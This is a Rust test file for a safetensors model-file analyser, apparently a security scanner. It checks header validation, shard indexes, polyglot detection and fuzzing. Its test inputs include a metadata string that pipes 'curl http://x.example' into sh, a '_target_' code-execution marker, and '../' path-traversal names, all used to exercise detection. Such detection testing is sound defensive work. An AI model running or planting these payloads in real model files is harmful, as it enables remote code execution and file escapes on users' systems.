use std::collections::BTreeMap;
use std::io;
use std::sync::Arc;

use proptest::prelude::*;

use super::*;
use crate::analyse::{NoSiblings, Siblings, analyse_file};
use crate::base::{Budget, Limits, ReadAt};
use crate::evidence::{CoverageFact, Fact, FileEvidence, FileFact, SafetensorsDefect, Status};

fn file_of(header: &str, data_length: usize) -> Vec<u8> {
    let mut bytes = (header.len() as u64).to_le_bytes().to_vec();
    bytes.extend_from_slice(header.as_bytes());
    bytes.resize(bytes.len() + data_length, 1);
    bytes
}

fn analyse_named(name: &str, bytes: &[u8]) -> FileEvidence {
    analyse_file(name, &bytes, &NoSiblings, &Limits::default())
}

fn analyse(header: &str, data_length: usize) -> FileEvidence {
    analyse_named("model.safetensors", &file_of(header, data_length))
}

fn defects(file: &FileEvidence) -> Vec<SafetensorsDefect> {
    file.evidence
        .iter()
        .filter_map(|piece| match &piece.fact {
            Fact::Safetensors(SafetensorsFact::Defect { defect, .. }) => Some(*defect),
            _ => None,
        })
        .collect()
}

fn details(file: &FileEvidence) -> String {
    file.evidence
        .iter()
        .filter_map(|piece| match &piece.fact {
            Fact::Safetensors(SafetensorsFact::Defect { detail, .. }) => Some(detail.as_str()),
            _ => None,
        })
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn a_good_file_has_a_header_and_nothing_else() {
    for (header, data_length, tensors) in [
        (r#"{"a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}   "#, 16, 1),
        (
            r#"{"__metadata__":{"format":"pt"},"a":{"dtype":"F64","shape":[],"data_offsets":[0,8]}}"#,
            8,
            1,
        ),
        // Listed out of order, with an empty tensor at a boundary.
        (
            r#"{"b":{"dtype":"BF16","shape":[2],"data_offsets":[4,8]},
                "e":{"data_offsets":[4,4],"shape":[0,7],"dtype":"U8"},
                "a":{"dtype":"F4","shape":[8],"data_offsets":[0,4]}}"#,
            8,
            3,
        ),
        ("{}", 0, 0),
        ("{\n\t}", 0, 0),
    ] {
        let file = analyse(header, data_length);
        let fact = SafetensorsFact::Header { tensors, data_length: data_length as u64 };
        assert_eq!(file.evidence.len(), 1, "{header} {:?}", file.evidence);
        assert_eq!(file.evidence[0].fact, fact.into());
        assert_eq!(file.formats, [Safetensors::FORMAT]);
        assert_eq!(file.status, Status::Analysed);
        // Content decides, not the name.
        assert_eq!(analyse_named("x.bin", &file_of(header, data_length)).formats, file.formats);
    }
}

#[test]
fn files_of_the_real_writer_pass() {
    let folder =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/real/safetensors");
    let mut count = 0;
    for folder in [folder.join("sharded"), folder] {
        for entry in folder.read_dir().unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_none_or(|extension| extension != "safetensors") {
                continue;
            }
            count += 1;
            let bytes = crate::base::FileBytes::open(&path).unwrap();
            let file = analyse_file("x", &bytes, &NoSiblings, &Limits::default());
            assert_eq!(file.formats, [Safetensors::FORMAT], "{path:?}");
            // One of them has a tensor whose name holds a line break.
            let odd = path.ends_with("quoted-name.safetensors");
            let expected: &[_] = if odd { &[SafetensorsDefect::TensorName] } else { &[] };
            assert_eq!(defects(&file), expected, "{path:?}");
            assert_eq!(file.evidence.len(), 1 + expected.len(), "{path:?}");
        }
    }
    assert!(count > 6);
}

#[test]
fn a_real_file_passes() {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/real/transformers/saved/model.safetensors");
    let bytes = crate::base::FileBytes::open(&path).unwrap();
    let file = analyse_file("model.safetensors", &bytes, &NoSiblings, &Limits::default());
    assert!(matches!(
        file.evidence[..],
        [crate::evidence::Evidence { fact: Fact::Safetensors(SafetensorsFact::Header { .. }), .. }]
    ));
}

#[test]
fn each_rule_has_a_defect() {
    use SafetensorsDefect::{
        Dtype, DuplicateKey, HeaderJson, Hole, Metadata, Offsets, Overlap, Shape, TensorEntry,
        TensorName, TrailingBytes,
    };
    let a = r#""a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}"#;
    for (header, data_length, expected) in [
        (format!("{{{a},{a}}}"), 4, vec![DuplicateKey, Overlap]),
        (r#"{"__metadata__":{},"__metadata__":{}}"#.into(), 0, vec![DuplicateKey]),
        (r#"{"__metadata__":{"k":"1","k":"2"}}"#.into(), 0, vec![DuplicateKey]),
        (r#"{"\u0061":{"dtype":"U8","shape":[0],"data_offsets":[0,0]},"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}"#.into(), 0, vec![DuplicateKey]),
        (r#"{"a":{"dtype":"U8","dtype":"U8","shape":[4],"data_offsets":[0,4]}}"#.into(), 4, vec![DuplicateKey]),
        (r#"{"__metadata__":{"k":1}}"#.into(), 0, vec![Metadata]),
        (r#"{"__metadata__":{"k":{"x":[]}}}"#.into(), 0, vec![Metadata]),
        (r#"{"__metadata__":null}"#.into(), 0, vec![Metadata]),
        (format!("{{{a}}}"), 5, vec![TrailingBytes]),
        ("{}".into(), 3, vec![TrailingBytes]),
        (format!("{{{a}}}"), 3, vec![Offsets]),
        (format!(r#"{{{a},"b":{{"dtype":"U8","shape":[4],"data_offsets":[6,10]}}}}"#), 10, vec![Hole]),
        (r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[2,6]}}"#.into(), 6, vec![Hole]),
        (format!(r#"{{{a},"b":{{"dtype":"U8","shape":[4],"data_offsets":[2,6]}}}}"#), 6, vec![Overlap]),
        (format!(r#"{{{a},"b":{{"dtype":"U8","shape":[0],"data_offsets":[2,2]}}}}"#), 4, vec![Overlap]),
        (r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[4,0]}}"#.into(), 0, vec![Offsets]),
        (r#"{"a":{"dtype":"U8","shape":[3],"data_offsets":[0,4]}}"#.into(), 4, vec![Offsets]),
        (r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4,8]}}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4.0]}}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[-1,4]}}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,1e3]}}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":{"dtype":"U8","shape":[-4],"data_offsets":[0,0]}}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":{"dtype":"U8","shape":[[4]],"data_offsets":[0,0]}}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":{"dtype":8,"shape":[0],"data_offsets":[0,0]}}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0],"x":1}}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":{"dtype":"U8","shape":[0]}}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":[]}"#.into(), 0, vec![TensorEntry]),
        (r#"{"a":{"dtype":"F128","shape":[1],"data_offsets":[0,16]}}"#.into(), 16, vec![Dtype]),
        (r#"{"a":{"dtype":"F4","shape":[3],"data_offsets":[0,1]}}"#.into(), 1, vec![Shape]),
        (r#"{"a":{"dtype":"F6_E2M3","shape":[3],"data_offsets":[0,2]}}"#.into(), 2, vec![Shape]),
        (r#"{"a":{"dtype":"U8","shape":[4294967296,4294967296],"data_offsets":[0,0]}}"#.into(), 0, vec![Shape]),
        (r#"{"a":{"dtype":"F64","shape":[9007199254740992,1024],"data_offsets":[0,0]}}"#.into(), 0, vec![Shape]),
        (r#"{"a":{"dtype":"U8","shape":[9007199254740993],"data_offsets":[0,0]}}"#.into(), 0, vec![Shape]),
        (r#"{"../a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}"#.into(), 0, vec![TensorName]),
        (r#"{"":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}"#.into(), 0, vec![TensorName]),
        (r#"{"e\u0301":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}"#.into(), 0, vec![TensorName]),
        ("  {}".into(), 0, vec![HeaderJson]),
        ("\u{feff}{}".into(), 0, vec![HeaderJson]),
        ("{}\n".into(), 0, vec![HeaderJson]),
        ("{}\0".into(), 0, vec![HeaderJson]),
        ("{} {}".into(), 0, vec![HeaderJson]),
        ("[]".into(), 0, vec![HeaderJson]),
        ("{\"a\":NaN}".into(), 0, vec![TensorEntry, HeaderJson]),
        ("{".into(), 0, vec![HeaderJson]),
        (r#"{"a":{"dtype":"U8","shape":[[[[[]]]]]}}"#.into(), 0, vec![HeaderJson]),
        (format!(r#"{{"a":{}"#, "[".repeat(100_000)), 0, vec![TensorEntry, HeaderJson]),
    ] {
        let file = analyse(&header, data_length);
        let expected: Vec<_> = if header.contains("NaN") { vec![HeaderJson] } else { expected };
        assert_eq!(defects(&file), expected, "{header:.200} {:?}", file.evidence);
    }
}

#[test]
fn the_length_of_the_header_is_judged_first() {
    for bytes in [
        &b"\x01"[..],
        b"\x01\0\0\0\0\0\0",
        b"\0\0\0\0\0\0\0\0{}",
        b"\xff\xff\xff\xff\xff\xff\xff\x7f{}",
        b"\x01\xe1\xf5\x05\0\0\0\0{}",
        b"\x03\0\0\0\0\0\0\0{}",
    ] {
        let file = analyse_named("model.safetensors", bytes);
        assert_eq!(defects(&file), [SafetensorsDefect::HeaderLength], "{bytes:?}");
    }
}

#[test]
fn what_is_something_else_is_left_to_others() {
    for bytes in [
        &b"\x80\x04\x95\x0a\0\0\0\0\0\0\0."[..],
        b"PK\x03\x04\x14\0\0\0\0\0",
        b"<!DOCTYPE html><html>Not found</html>",
        b"",
    ] {
        let file = analyse_named("model.safetensors", bytes);
        assert!(!file.formats.contains(&Safetensors::FORMAT), "{bytes:?}");
    }
    // A length of 640 begins like a pickle and is none.
    let header = format!("{{}}{}", " ".repeat(638));
    assert_eq!(analyse(&header, 0).formats, [Safetensors::FORMAT]);
}

#[test]
fn defects_name_tensor_and_place() {
    let header = r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[2,6]}}"#;
    let file = analyse(header, 6);
    let place = file.evidence[0].origin.offset.unwrap();
    assert_eq!(place, 8 + header.len() as u64 + 2);
    assert_eq!(details(&file), "`b` overlaps another tensor (bytes 2..4 of the data)");
    let header = r#"{"a":{"dtype":"X","shape":[4],"data_offsets":[0,4]}}"#;
    let file = analyse(header, 4);
    assert_eq!(file.evidence[0].origin.offset, Some(8 + header.find(r#""X""#).unwrap() as u64));
}

#[test]
fn metadata_that_is_a_payload_is_told() {
    let value = r#"{\"_target_\": \"os.getpid\"}"#;
    let file = analyse(&format!(r#"{{"__metadata__":{{"cfg":"{value}"}}}}"#), 0);
    assert!(matches!(
        &file.evidence[0].fact,
        Fact::Safetensors(SafetensorsFact::MetadataPayload { key, .. }) if key == "cfg"
    ));
    let file = analyse(r#"{"__metadata__":{"note":"curl http://x.example | sh; import os"}}"#, 0);
    assert_eq!(file.evidence.len(), 1, "{:?}", file.evidence);
}

#[test]
fn a_polyglot_is_claimed_by_structure() {
    // PROTO 2, then BINUNICODE whose length the other six bytes of N begin.
    let length: u64 = 0x01_58_02_80;
    let mut bytes = length.to_le_bytes().to_vec();
    bytes.extend(b"{}");
    bytes.resize(usize::try_from(8 + length).unwrap(), b' ');
    let file = analyse_named("x", &bytes);
    assert!(file.formats.contains(&Safetensors::FORMAT));
    assert_eq!(defects(&file), []);
}

#[test]
fn many_defects_are_counted() {
    let mut header = String::from("{");
    for number in 0..100 {
        header.push_str(&format!("\"t{number}\":1,"));
    }
    header.push_str("\"last\":1}");
    let file = analyse(&header, 0);
    assert_eq!(defects(&file).len(), 17);
    assert!(details(&file).ends_with("and 85 more of the same kind"));
}

#[test]
fn more_tensors_than_allowed_is_a_budget() {
    let limits = Limits { tensors: 2, ..Limits::default() };
    let header = r#"{"a":1,"b":1,"c":1}"#;
    let bytes = file_of(header, 0);
    let file = analyse_file("m.safetensors", &bytes, &NoSiblings, &limits);
    assert!(file.evidence.iter().any(|piece| matches!(
        piece.fact,
        Fact::Coverage(CoverageFact::BudgetExhausted { budget: Budget::Tensors, limit: 2 })
    )));
    let limits = Limits { safetensors_header: 4, ..Limits::default() };
    let file = analyse_file("m.safetensors", &bytes, &NoSiblings, &limits);
    assert_eq!(file.status, Status::Partial);
}

/// A model in memory.
struct Folder(BTreeMap<String, Vec<u8>>);

impl Siblings for Folder {
    fn paths(&self) -> Vec<String> {
        self.0.keys().cloned().collect()
    }

    fn open(&self, path: &str) -> Option<io::Result<Arc<dyn ReadAt>>> {
        let bytes = self.0.get(path)?.clone();
        Some(Ok(Arc::new(bytes)))
    }
}

fn shard(names: &[&str]) -> Vec<u8> {
    let entries: Vec<String> = names
        .iter()
        .enumerate()
        .map(|(at, name)| {
            format!(r#""{name}":{{"dtype":"U8","shape":[1],"data_offsets":[{at},{}]}}"#, at + 1)
        })
        .collect();
    file_of(&format!("{{{}}}", entries.join(",")), names.len())
}

fn analyse_index(index: &str) -> FileEvidence {
    let folder = Folder(BTreeMap::from([
        ("sub/model-00001-of-00002.safetensors".into(), shard(&["a", "b"])),
        ("sub/model-00002-of-00002.safetensors".into(), shard(&["c"])),
        ("sub/other.safetensors".into(), shard(&["z"])),
        ("sub/pytorch_model-00001-of-00001.bin".into(), b"x".to_vec()),
    ]));
    let name = "sub/model.safetensors.index.json";
    analyse_file(name, &index.as_bytes(), &folder, &Limits::default())
}

#[test]
fn a_good_index_passes() {
    let file = analyse_index(
        r#"{"metadata":{"total_size":3},"weight_map":{
            "a":"model-00001-of-00002.safetensors",
            "b":"model-00001-of-00002.safetensors",
            "c":"model-00002-of-00002.safetensors"}}"#,
    );
    assert_eq!(file.evidence.len(), 1, "{:?}", file.evidence);
    assert!(matches!(
        &file.evidence[0].fact,
        Fact::Safetensors(SafetensorsFact::Index { shards, tensors: 3 }) if shards.len() == 2
    ));
    assert_eq!(file.formats, [SafetensorsIndex::FORMAT]);
}

#[test]
fn each_rule_of_the_index_has_a_defect() {
    use SafetensorsDefect::{
        DuplicateKey, IndexJson, ShardFormat, ShardMissing, ShardPath, ShardTensor, ShardUnlisted,
    };
    let one = "model-00001-of-00002.safetensors";
    let two = "model-00002-of-00002.safetensors";
    for (map, expected) in [
        (format!(r#""a":"{one}","b":"{one}""#), vec![ShardUnlisted]),
        (format!(r#""a":"{one}","b":"{two}","c":"{two}""#), vec![ShardTensor, ShardTensor]),
        (format!(r#""a":"{one}","c":"{two}""#), vec![ShardTensor]),
        (format!(r#""a":"{one}","b":"{one}","c":"{two}","d":"{two}""#), vec![ShardTensor]),
        (
            format!(r#""a":"{one}","b":"{one}","c":"{two}","d":"gone.safetensors""#),
            vec![ShardMissing],
        ),
        (format!(r#""a":"{one}","b":"{one}","c":"{two}","d":"../x.safetensors""#), vec![ShardPath]),
        (format!(r#""a":"{one}","b":"{one}","c":"{two}","d":"/x.safetensors""#), vec![ShardPath]),
        (format!(r#""a":"{one}","b":"{one}","c":"{two}","d":"C:x.safetensors""#), vec![ShardPath]),
        (format!(r#""a":"{one}","b":"{one}","c":"{two}","d":"d/x.safetensors""#), vec![ShardPath]),
        (format!(r#""a":"{one}","b":"{one}","c":"{two}","d":"""#), vec![ShardPath]),
        (format!(r#""a":"{one}","b":"{one}","c":"{two}","d":"x.bin""#), vec![ShardFormat]),
        (format!(r#""a":"{one}","b":"{one}","c":"{two}","a":"{one}""#), vec![DuplicateKey]),
        (format!(r#""a":"{one}","b":"{one}","c":"{two}","d":1"#), vec![IndexJson]),
    ] {
        let file = analyse_index(&format!(r#"{{"metadata":{{}},"weight_map":{{{map}}}}}"#));
        assert_eq!(defects(&file), expected, "{map} {:?}", file.evidence);
    }
    for text in ["[]", "{}", r#"{"weight_map":[]}"#, "{", r#"{"weight_map":{}} x"#, "plain"] {
        assert_eq!(defects(&analyse_index(text)), [IndexJson], "{text}");
    }
    assert_eq!(
        defects(&analyse_index(r#"{"weight_map":{}}"#)),
        [IndexJson, ShardUnlisted, ShardUnlisted]
    );
}

#[test]
fn an_index_of_torch_shards_is_ordinary() {
    let folder = Folder(BTreeMap::from([("x.bin".into(), b"x".to_vec())]));
    let analyse = |text: &str| {
        let name = "pytorch_model.bin.index.json";
        analyse_file(name, &text.as_bytes(), &folder, &Limits::default())
    };
    let file = analyse(r#"{"metadata":{},"weight_map":{"a":"x.bin"}}"#);
    assert_eq!(defects(&file), []);
    assert_eq!(file.formats, [Format::new("torch-index")]);
    let file = analyse(r#"{"metadata":{},"weight_map":{"a":"../x.bin"}}"#);
    assert_eq!(defects(&file), [SafetensorsDefect::ShardPath]);
}

#[test]
fn indexes_are_known_by_name() {
    for (name, claimed) in [
        ("model.safetensors.index.json", true),
        ("a/model.safetensors.index.fp16.json", true),
        ("pytorch_model.bin.index.json", true),
        ("index.json", false),
        ("model.safetensors.json", false),
    ] {
        let file = analyse_named(name, br#"{"weight_map":{"a":"../b"}}"#);
        assert_eq!(!defects(&file).is_empty(), claimed, "{name}");
    }
    // A pickle of that name is for others.
    let file = analyse_named("model.safetensors.index.json", b"\x80\x04\x95\0");
    assert_eq!(defects(&file), []);
    assert!(!file.evidence.iter().any(|p| matches!(p.fact, Fact::File(FileFact::Polyglot { .. }))));
}

/// Sizes of the tensors of a valid file, and which of them is changed.
fn tensors() -> impl Strategy<Value = (Vec<u64>, usize)> {
    proptest::collection::vec(1_u64..9, 1..8)
        .prop_flat_map(|sizes| (Just(sizes.clone()), 0..sizes.len()))
}

fn header_of(entries: &[(String, String, String, u64, u64)]) -> String {
    let entries: Vec<String> = entries
        .iter()
        .map(|(name, dtype, shape, start, end)| {
            format!(
                r#""{name}":{{"dtype":"{dtype}","shape":[{shape}],"data_offsets":[{start},{end}]}}"#
            )
        })
        .collect();
    format!("{{{}}}", entries.join(","))
}

proptest! {
    #[test]
    fn any_bytes_are_read_or_refused(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        analyse_named("a.safetensors", &bytes);
        analyse_named("a.safetensors.index.json", &bytes);
    }

    #[test]
    fn any_header_is_read_or_refused(header in r#"[{}\[\]:,"a0-9.e -]{0,60}"#) {
        analyse(&header, 3);
        analyse(&format!(r#"{{"a":{{"dtype":"U8","shape":{header},"data_offsets":{header}}}}}"#), 3);
        analyse_index(&header);
        analyse_index(&format!(r#"{{"weight_map":{{{header}}}}}"#));
    }

    #[test]
    fn a_broken_rule_is_told((sizes, at) in tensors(), rule in 0_u8..9) {
        let mut entries = Vec::new();
        let mut start = 0;
        for (number, size) in sizes.iter().enumerate() {
            let end = start + size;
            entries.push((format!("t{number}"), "U8".to_owned(), size.to_string(), start, end));
            start = end;
        }
        let mut data_length = usize::try_from(start).unwrap();
        prop_assert_eq!(defects(&analyse(&header_of(&entries), data_length)), []);

        let last = entries.len() - 1;
        let entry = &mut entries[at];
        let expected = match rule {
            0 => { entry.1 = "U9".into(); SafetensorsDefect::Dtype }
            1 => { entry.2 = format!("{},1.0", entry.2); SafetensorsDefect::TensorEntry }
            2 => { entry.2 = format!("{},2", entry.2); SafetensorsDefect::Offsets }
            3 => { entry.2 = format!("{},18446744073709551615", entry.2); SafetensorsDefect::Shape }
            4 => { entry.0 = "a/../b".into(); SafetensorsDefect::TensorName }
            5 => { data_length += 1; SafetensorsDefect::TrailingBytes }
            6 => { data_length -= 1; SafetensorsDefect::Offsets }
            7 => {
                for entry in &mut entries[at..] { entry.3 += 1; entry.4 += 1; }
                data_length += 1;
                SafetensorsDefect::Hole
            }
            _ => {
                let copy = entries[last].0.clone();
                entries.push((copy, "U8".into(), "0".into(), start, start));
                SafetensorsDefect::DuplicateKey
            }
        };
        let found = defects(&analyse(&header_of(&entries), data_length));
        prop_assert!(found.contains(&expected), "{:?} {:?}", expected, found);
        // One broken rule is one defect, save a size of 1 whose factor overflows nothing.
        prop_assert!(found.len() <= 1 || rule == 3, "{:?}", found);
    }
}
